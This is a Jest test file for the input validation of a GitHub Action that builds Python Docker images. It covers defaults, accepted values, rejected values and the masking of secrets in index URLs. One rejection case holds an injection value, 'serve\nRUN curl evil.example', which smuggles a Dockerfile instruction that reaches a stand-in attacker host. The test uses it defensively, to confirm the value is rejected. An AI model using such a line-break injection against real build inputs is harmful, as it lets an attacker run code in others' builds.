import {
  afterAll,
  afterEach,
  beforeEach,
  describe,
  expect,
  it
} from '@jest/globals'
import path from 'node:path'
import { ConfigurationError } from '../../src/errors.js'
import { getSettings, type Settings } from '../../src/inputs.js'
import {
  capturingStdout,
  inputReader,
  removeTempTrees,
  tempTree,
  thrownBy
} from '../support/fixtures.js'

// The repository the action runs in: inputs resolve paths against it.
const WORKSPACE_FILES = {
  'requirements.txt': 'flask\n',
  'service/requirements.txt': 'flask\n',
  'service/docker/Dockerfile.prod': 'FROM python:3.13\n',
  'certs/ca.pem': '-----BEGIN CERTIFICATE-----\n',
  'certs/dir/.keep': ''
}

/** What action.yml declares as defaults, as the runner passes them. */
const ACTION_DEFAULTS = {
  'working-directory': '.',
  'python-version': '',
  'package-manager': 'auto',
  command: '',
  runtime: 'auto',
  baseline: 'auto',
  'max-size': '',
  'max-compressed-size': '',
  'max-baseline-size': '',
  'min-reduction': '',
  'max-growth': '',
  'smoke-test': 'auto',
  'smoke-test-timeout': '60',
  build: 'true',
  'ca-certificates': '',
  'index-url': '',
  'extra-index-url': '',
  'keep-images': 'false',
  'github-token': '',
  comment: 'true',
  'comment-key': ''
}

let workspace: string
const savedWorkspace = process.env.GITHUB_WORKSPACE

beforeEach(() => {
  workspace = tempTree(WORKSPACE_FILES)
  process.env.GITHUB_WORKSPACE = workspace
})

afterEach(() => {
  if (savedWorkspace === undefined) delete process.env.GITHUB_WORKSPACE
  else process.env.GITHUB_WORKSPACE = savedWorkspace
})

afterAll(removeTempTrees)

function defaults(): Settings {
  return {
    workingDirectory: workspace,
    pythonVersion: undefined,
    packageManager: 'auto',
    command: undefined,
    runtime: { kind: 'auto' },
    baseline: { kind: 'auto' },
    budgets: {
      maxSize: undefined,
      maxCompressedSize: undefined,
      maxBaselineSize: undefined,
      minReduction: undefined,
      maxGrowth: undefined
    },
    smokeTest: { kind: 'auto', timeoutSeconds: 60 },
    build: true,
    caCertificates: undefined,
    indexUrl: undefined,
    extraIndexUrls: [],
    keepImages: false,
    githubToken: '',
    comment: true,
    commentKey: '.'
  }
}

describe('getSettings defaults', () => {
  it('reads no inputs as the defaults', () => {
    expect(getSettings(inputReader({}))).toEqual(defaults())
  })

  it("reads action.yml's default values as the defaults", () => {
    expect(getSettings(inputReader(ACTION_DEFAULTS))).toEqual(defaults())
  })
})

describe('getSettings accepts', () => {
  const cases: {
    inputs: Record<string, string>
    expected: (workspace: string) => Partial<Settings>
  }[] = [
    {
      inputs: { 'working-directory': 'service' },
      expected: ws => ({
        workingDirectory: path.join(ws, 'service'),
        commentKey: 'service'
      })
    },
    {
      inputs: { 'working-directory': ' service/ ' },
      expected: ws => ({
        workingDirectory: path.join(ws, 'service'),
        commentKey: 'service'
      })
    },
    {
      inputs: {
        'index-url': 'https://u:tok@pypi.example.com/simple',
        'extra-index-url':
          'https://a.example/simple\n  https://b.example/simple'
      },
      expected: () => ({
        indexUrl: 'https://u:tok@pypi.example.com/simple',
        extraIndexUrls: ['https://a.example/simple', 'https://b.example/simple']
      })
    },
    {
      inputs: { 'max-growth': '5MB' },
      expected: () => ({
        budgets: { ...defaults().budgets, maxGrowth: { bytes: 5e6 } }
      })
    },
    {
      inputs: { 'max-growth': '10 %' },
      expected: () => ({
        budgets: { ...defaults().budgets, maxGrowth: { percent: 10 } }
      })
    },
    {
      inputs: { 'comment-key': 'api', comment: 'false' },
      expected: () => ({ commentKey: 'api', comment: false })
    },
    {
      inputs: {
        'max-compressed-size': '50MiB',
        'max-baseline-size': '1GB',
        'min-reduction': '70%'
      },
      expected: () => ({
        budgets: {
          maxSize: undefined,
          maxCompressedSize: 50 * 1024 ** 2,
          maxBaselineSize: 1e9,
          minReduction: 70,
          maxGrowth: undefined
        }
      })
    },
    {
      inputs: { runtime: 'Distroless' },
      expected: () => ({ runtime: { kind: 'distroless' } })
    },
    {
      inputs: { 'python-version': '3.12' },
      expected: () => ({ pythonVersion: '3.12' })
    },
    {
      inputs: { 'python-version': '3.12.4' },
      expected: () => ({ pythonVersion: '3.12' })
    },
    {
      inputs: { 'python-version': '3.9' },
      expected: () => ({ pythonVersion: '3.9' })
    },
    {
      inputs: { 'package-manager': 'pip' },
      expected: () => ({ packageManager: 'pip' })
    },
    {
      inputs: { 'package-manager': 'Poetry' },
      expected: () => ({ packageManager: 'poetry' })
    },
    {
      inputs: { command: 'gunicorn app:app' },
      expected: () => ({ command: ['gunicorn', 'app:app'] })
    },
    {
      inputs: { command: '["uvicorn", "app:app"]' },
      expected: () => ({ command: ['uvicorn', 'app:app'] })
    },
    {
      inputs: { runtime: 'slim' },
      expected: () => ({ runtime: { kind: 'slim' } })
    },
    {
      inputs: { runtime: 'distroless' },
      expected: () => ({ runtime: { kind: 'distroless' } })
    },
    {
      inputs: { runtime: 'python:3.13-slim' },
      expected: () => ({
        runtime: { kind: 'image', image: 'python:3.13-slim' }
      })
    },
    {
      inputs: { runtime: 'ghcr.io/acme/python@sha256:0123abcd' },
      expected: () => ({
        runtime: { kind: 'image', image: 'ghcr.io/acme/python@sha256:0123abcd' }
      })
    },
    {
      inputs: { baseline: 'generated' },
      expected: () => ({ baseline: { kind: 'generated' } })
    },
    {
      inputs: {
        'working-directory': 'service',
        baseline: 'docker/Dockerfile.prod'
      },
      expected: ws => ({
        workingDirectory: path.join(ws, 'service'),
        commentKey: 'service',
        baseline: {
          kind: 'dockerfile',
          path: path.join(ws, 'service/docker/Dockerfile.prod')
        }
      })
    },
    {
      inputs: { 'max-size': '150MB' },
      expected: () => ({ budgets: { maxSize: 150_000_000 } })
    },
    {
      inputs: { 'max-size': '120 MiB' },
      expected: () => ({ budgets: { maxSize: 120 * 1024 ** 2 } })
    },
    {
      inputs: { 'smoke-test': 'off' },
      expected: () => ({ smokeTest: { kind: 'off' } })
    },
    {
      inputs: { 'smoke-test': 'false' },
      expected: () => ({ smokeTest: { kind: 'off' } })
    },
    {
      inputs: {
        'smoke-test': 'python -c "import app"',
        'smoke-test-timeout': '120'
      },
      expected: () => ({
        smokeTest: {
          kind: 'command',
          argv: ['python', '-c', 'import app'],
          timeoutSeconds: 120
        }
      })
    },
    {
      inputs: { 'smoke-test-timeout': '5' },
      expected: () => ({ smokeTest: { kind: 'auto', timeoutSeconds: 5 } })
    },
    { inputs: { build: 'false' }, expected: () => ({ build: false }) },
    { inputs: { build: 'No' }, expected: () => ({ build: false }) },
    { inputs: { build: 'on' }, expected: () => ({ build: true }) },
    {
      inputs: { 'keep-images': 'TRUE' },
      expected: () => ({ keepImages: true })
    },
    {
      inputs: { 'ca-certificates': 'certs/ca.pem' },
      expected: ws => ({ caCertificates: path.join(ws, 'certs/ca.pem') })
    },
    {
      inputs: { 'github-token': 'ghs_secret' },
      expected: () => ({ githubToken: 'ghs_secret' })
    }
  ]

  it.each(cases)('$inputs', ({ inputs, expected }) => {
    expect(getSettings(inputReader(inputs))).toEqual({
      ...defaults(),
      ...expected(workspace)
    })
  })
})

describe('getSettings rejects', () => {
  // input, bad value, the expected form the message must state
  const cases: [string, string, RegExp][] = [
    ['working-directory', 'missing', /expected the path of the Python project/],
    ['working-directory', 'requirements.txt', /expected the path/],
    ['python-version', '3', /expected one of 3\.9, .*3\.13, 3\.14/],
    ['python-version', '3.8', /expected one of 3\.9/],
    ['python-version', '3.99', /expected one of 3\.9/],
    ['python-version', '2.7', /expected one of/],
    ['python-version', '3.x', /expected one of/],
    ['python-version', 'latest', /expected one of/],
    ['python-version', '3.13.1.2', /expected one of/],
    [
      'package-manager',
      'npm',
      /expected auto, pip, poetry, uv, pdm, pipenv, pyproject/
    ],
    ['command', "gunicorn 'app:app", /expected balanced quotes/],
    ['command', '[1, 2]', /expected a form such as \["uvicorn", "app:app"\]/],
    ['command', '[]', /expected a command such as/],
    ['runtime', 'python 3.13', /image reference such as python:3\.13-slim/],
    ['runtime', '-slim', /neither auto, distroless, slim nor an image/],
    ['baseline', 'Dockerfile.missing', /expected auto, generated, or the path/],
    ['baseline', 'certs', /expected auto, generated, or the path/],
    ['max-size', 'ten', /expected a number of bytes, .*e\.g\. 150MB/],
    ['max-size', '10XB', /expected a number of bytes/],
    ['max-size', '-5MB', /expected a number of bytes/],
    ['max-compressed-size', '5 MBs', /expected a number of bytes/],
    ['max-baseline-size', 'big', /expected a number of bytes/],
    ['min-reduction', '120', /expected a number from 0 to 100/],
    ['min-reduction', 'half', /expected a number from 0 to 100/],
    ['max-growth', 'a lot', /expected e\.g\. 5MB, 2MiB or 10%/],
    ['max-growth', '150%', /expected a number from 0 to 100/],
    ['comment', 'sometimes', /expected true or false/],
    ['smoke-test', "python -c 'import app", /expected balanced quotes/],
    ['smoke-test-timeout', '0', /expected a whole number above 0/],
    ['smoke-test-timeout', 'soon', /expected a whole number above 0/],
    ['smoke-test-timeout', '1.5', /expected a whole number above 0/],
    ['smoke-test-timeout', '-3', /expected a whole number above 0/],
    ['build', 'maybe', /expected true or false/],
    ['keep-images', 'sometimes', /expected true or false/],
    [
      'ca-certificates',
      'certs/missing.pem',
      /expected the path of a PEM bundle/
    ],
    ['ca-certificates', 'certs/dir', /expected the path of a PEM bundle/],
    // A line break could smuggle an instruction into the Dockerfile.
    ['python-version', '3.13\n3.12', /expected a single line of text/],
    ['command', 'serve\nRUN curl evil.example', /expected a single line/],
    ['runtime', 'slim\rdistroless', /expected a single line of text/],
    ['working-directory', 'app\tdir', /expected a single line of text/],
    ['max-size', '150MB\u0000', /expected a single line of text/],
    ['baseline', 'Dockerfile\u001b[31m', /expected a single line of text/]
  ]

  it.each(cases)('%s: %j', (name, value, expectedForm) => {
    const error = thrownBy(() => getSettings(inputReader({ [name]: value })))
    expect(error).toBeInstanceOf(ConfigurationError)
    expect(error.message).toMatch(new RegExp(`^Input ${name}\\b`))
    expect(error.message).toContain(JSON.stringify(value))
    expect(error.message).toMatch(expectedForm)
    expect(error.message).not.toMatch(/[\n\r]/)
  })

  it.each([
    ['index-url', 'ftp://s3cr3t@x/simple', /URL number 1 is not an http\(s\)/],
    [
      'index-url',
      'https://s3cr3t@a/s https://b/s',
      /holds 2 URLs; expected one/
    ],
    ['extra-index-url', 'https://a/simple s3cr3t', /URL number 2 is not/]
  ])('%s: %j fails without repeating the value', (name, value, form) => {
    const error = thrownBy(() => getSettings(inputReader({ [name]: value })))
    expect(error).toBeInstanceOf(ConfigurationError)
    expect(error.message).toMatch(new RegExp(`^Input ${name}\\b`))
    expect(error.message).toMatch(form)
    expect(error.message).not.toContain('s3cr3t')
  })

  it('never repeats an index URL, which may hold a token', () => {
    const error = thrownBy(() =>
      getSettings(inputReader({ 'index-url': 'mailto:s3cr3t@example.com' }))
    )
    expect(error).toBeInstanceOf(ConfigurationError)
    expect(error.message).toMatch(/^Input index-url: /)
    expect(error.message).not.toContain('s3cr3t')
  })

  it('masks index URLs and their passwords before anything prints them', () => {
    const { output } = capturingStdout(() =>
      getSettings(
        inputReader({
          'index-url': 'https://user:p%40ss@pypi.example.com/simple'
        })
      )
    )
    // Workflow commands escape % as %25; the runner decodes it.
    expect(output).toContain(
      '::add-mask::https://user:p%2540ss@pypi.example.com/simple'
    )
    expect(output).toContain('::add-mask::p@ss')
  })

  it('never checks or repeats the github-token', () => {
    const token = 'ghs_line1\nline2'
    expect(getSettings(inputReader({ 'github-token': token }))).toEqual({
      ...defaults(),
      githubToken: token
    })
  })
})
